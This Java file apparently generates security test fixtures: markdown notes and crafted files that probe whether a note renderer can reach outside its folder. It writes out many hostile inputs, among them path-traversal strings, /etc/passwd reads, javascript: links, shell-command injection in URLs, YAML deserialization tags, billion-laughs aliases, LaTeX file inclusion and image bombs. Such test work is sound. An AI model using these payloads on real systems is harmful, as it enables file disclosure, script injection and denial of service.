package firstlayer.app;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Collectors;
import javax.imageio.ImageIO;

/** What a note may try to get at what is not its own, and the folder in which it does. */
final class ReachingTries {

    /** A name of a try that says which kind it is begins so where it needs links of the system's files. */
    static final String LINKED = "link:";

    private static final String FRONT = "---\nquestion: Q\nwidget: neuron\n---\n\n";

    private final Map<String, String> all = new LinkedHashMap<>();

    /** Notes by what they try. */
    static Map<String, String> all() {
        ReachingTries tries = new ReachingTries();
        tries.paths();
        tries.images();
        tries.addresses();
        tries.frontMatter();
        tries.formulas();
        return tries.all;
    }

    private void body(String name, String text) {
        all.put(name, FRONT + text + "\n");
    }

    private void image(String name, String target) {
        body(name, "![words](" + target + ")");
    }

    private void link(String name, String target) {
        body(name, "[words](" + target + ")");
    }

    private void front(String name, String lines) {
        all.put(name, "---\n" + lines + "\n---\n\nWords.\n");
    }

    private void paths() {
        image("up", "../outside.png");
        image("up and down", "sub/../../outside.png");
        image("up through what is not there", "nowhere/../../outside.png");
        image("up, twice over", "....//outside.png");
        image("up in percent", "%2e%2e/outside.png");
        image("up in percent, the slash too", "..%2Foutside.png");
        image("up in percent of percent", "%252e%252e%252foutside.png");
        image("up in overlong bytes", "%c0%ae%c0%ae/outside.png");
        image("up in wide dots", "\uFF0E\uFF0E/outside.png");
        image("up with a dot of two", "\u2025/outside.png");
        image("up with backslashes", "..\\\\outside.png");
        image("absolute", "/etc/passwd");
        image("absolute in percent", "%2Fetc%2Fpasswd");
        image("absolute on Windows", "C:/Windows/win.ini");
        image("a stream of a file", "inside.png::$DATA");
        image("share", "//evil.example/share/a.png");
        image("share with backslashes", "\\\\\\\\evil.example\\\\share\\\\a.png");
        image("a name that ends early", "inside.png%00.md");
        image("home", "~/outside.png");
        image("variable", "$HOME/outside.png");
        image("another case", "INSIDE.PNG");
        image(LINKED + " to a file", "link.png");
        image(LINKED + " to a folder", "up/outside.png");
        image(LINKED + " to itself", "round.png");
        image(LINKED + " to a device", "zero.png");
        image("folder", "folder.png");
        link("note above", "../secret.md");
        link("note above in percent", "..%2Fsecret.md");
        link("go above", "go:../secret");
        image("picture above", "picture:../secret");
    }

    private void images() {
        image("image of a file address", "file:///etc/passwd");
        image("image of a file address, in capitals", "FILE:///etc/passwd");
        image("image in a jar", "jar:file:/a.jar!/a.png");
        image("image of the web", "https://evil.example/a.png");
        image("image as data", "data:image/png;base64,iVBORw0KGgo=");
        image("image of 60,000 by 60,000", "bomb.png");
        image("image of 8000 by 8000 in a few bytes", "flat.png");
        image("image cut after its head", "cut.png");
        image("image of no size", "none.png");
        image("image that is a program", "script.png");
        image("drawing", "drawing.svg");
        image("drawing under another name", "drawing.png");
        image("moving image of 300 frames", "moving.gif");
        body(
                "image in a tag",
                "<img src=\"https://evil.example/a.png\"> <iframe src=\"file:///etc/passwd\">x</iframe>");
    }

    private void addresses() {
        link("script", "javascript:alert(1)");
        link("script in another case", "JaVaScRiPt:alert(1)");
        link("script in entities", "&#106;avascript:alert(1)");
        link("page as data", "data:text/html,<script>");
        link("file", "file:///etc/passwd");
        link("mail", "mailto:a@evil.example?attach=/etc/passwd");
        link("host without a scheme", "//evil.example/x");
        link("no host", "https:etc/passwd");
        link("commands of a shell", "https://example.org/`touch${IFS}x`|id");
        link("more commands of a shell", "https://example.org/$(id);id&id");
        link("setting a command", "set:b=$(id)");
        body("link as a reference", "[words][x]\n\n[x]: vbscript:alert(1)");
        body("bare address", "<javascript:alert(1)>");
    }

    private void frontMatter() {
        front("tag of a class", "question: !!javax.script.ScriptEngineManager [x]");
        front("tag of a class on a text", "question: !!java.net.URL \"https://evil.example\"");
        front("tag that includes", "question: !include /etc/passwd\nwidget: neuron");
        front("billion laughs", "question: &a [x,x]\nmore: &b [*a,*a]\nstart: [*b,*b]");
        front("alias", "question: &a Q\nmore: *a");
        front("merge", "question: Q\n<<: {widget: neuron}");
        front("lists in lists", "question: " + "[".repeat(2000));
        front("widget above", "question: Q\nwidget: ../../neuron");
    }

    private void formulas() {
        body("formula that reads a file", "$\\includegraphics{/etc/passwd}$");
        body("formula that inputs a file", "$\\input{/etc/passwd}$");
        body("formula with an address", "$\\href{javascript:alert(1)}{x}$");
        body("formula that defines", "$\\newcommand{\\x}{\\x\\x}\\x$");
    }

    /** The files that the notes reach for, inside the folder and above it. */
    static void files(Path folder, boolean links) throws IOException {
        Files.createDirectories(folder.resolve("sub"));
        Files.createDirectories(folder.resolve("folder.png"));
        png(folder.resolveSibling("outside.png"), 3, 2);
        Files.writeString(folder.resolveSibling("secret.md"), "A secret.\n");
        png(folder.resolve("inside.png"), 3, 2);
        png(folder.resolve("flat.png"), 8000, 8000);
        head(folder.resolve("bomb.png"), 60_000);
        head(folder.resolve("cut.png"), 40);
        head(folder.resolve("none.png"), 0);
        Files.writeString(folder.resolve("script.png"), "#!/bin/sh\ntouch x\n");
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"file:///etc/passwd\"/></svg>";
        Files.writeString(folder.resolve("drawing.svg"), svg);
        Files.writeString(folder.resolve("drawing.png"), svg);
        Files.write(folder.resolve("moving.gif"), gif(300, 1000));
        if (links) {
            Files.createSymbolicLink(folder.resolve("link.png"), folder.resolveSibling("outside.png"));
            Files.createSymbolicLink(folder.resolve("link.md"), folder.resolveSibling("secret.md"));
            Files.createSymbolicLink(folder.resolve("up"), folder.getParent());
            Files.createSymbolicLink(folder.resolve("round.png"), folder.resolve("round.png"));
            Files.createSymbolicLink(folder.resolve("zero.png"), Path.of("/dev/zero"));
        }
    }

    private static void png(Path file, int width, int height) throws IOException {
        ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_BYTE_BINARY), "png", file.toFile());
    }

    /** A PNG that says how large it is, and then ends. */
    private static void head(Path file, int size) throws IOException {
        Files.write(
                file,
                ByteBuffer.allocate(24)
                        .putInt(0x89504E47)
                        .putInt(0x0D0A1A0A)
                        .putLong(0x0000000D49484452L)
                        .putInt(size)
                        .putInt(size)
                        .array());
    }

    /** GIF89a: a screen of some size, then so many images of one pixel. */
    private static byte[] gif(int frames, int size) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DataOutputStream gif = new DataOutputStream(bytes)) {
            gif.writeBytes("GIF89a");
            gif.writeShort(Short.reverseBytes((short) size));
            gif.writeShort(Short.reverseBytes((short) size));
            gif.write(new byte[] {(byte) 0x80, 0, 0});
            gif.write(new byte[6]);
            for (int i = 0; i < frames; i++) {
                gif.write(new byte[] {0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x4C, 0x01, 0});
            }
            gif.write(0x3B);
        }
        return bytes.toByteArray();
    }

    /** The name of a try's file. */
    static String file(String name) {
        List<String> names = List.copyOf(all().keySet());
        return String.format(Locale.ROOT, "%02d.md", names.indexOf(name) + 1);
    }

    /** Writes every note, with the files it reaches for. */
    static void write(Path folder, boolean links) throws IOException {
        files(folder, links);
        for (Map.Entry<String, String> one : all().entrySet()) {
            Files.writeString(folder.resolve(file(one.getKey())), one.getValue());
        }
    }

    /**
     * Writes the same in few notes: what stands in front of a note has one of its own.
     *
     * @param secret what is reached for in place of the system's file
     */
    static void writeTogether(Path folder, Path secret) throws IOException {
        files(folder, true);
        Map<Boolean, List<String>> kinds =
                all().values().stream().collect(Collectors.partitioningBy(note -> note.startsWith(FRONT)));
        List<String> notes = new ArrayList<>(kinds.get(false));
        notes.add(FRONT
                + kinds.get(true).stream()
                        .map(note -> note.substring(FRONT.length()))
                        .collect(Collectors.joining("\n")));
        for (int i = 0; i < notes.size(); i++) {
            Files.writeString(
                    folder.resolve(String.format(Locale.ROOT, "%02d.md", i)),
                    notes.get(i).replace("/etc/passwd", secret.toString()));
        }
    }
}
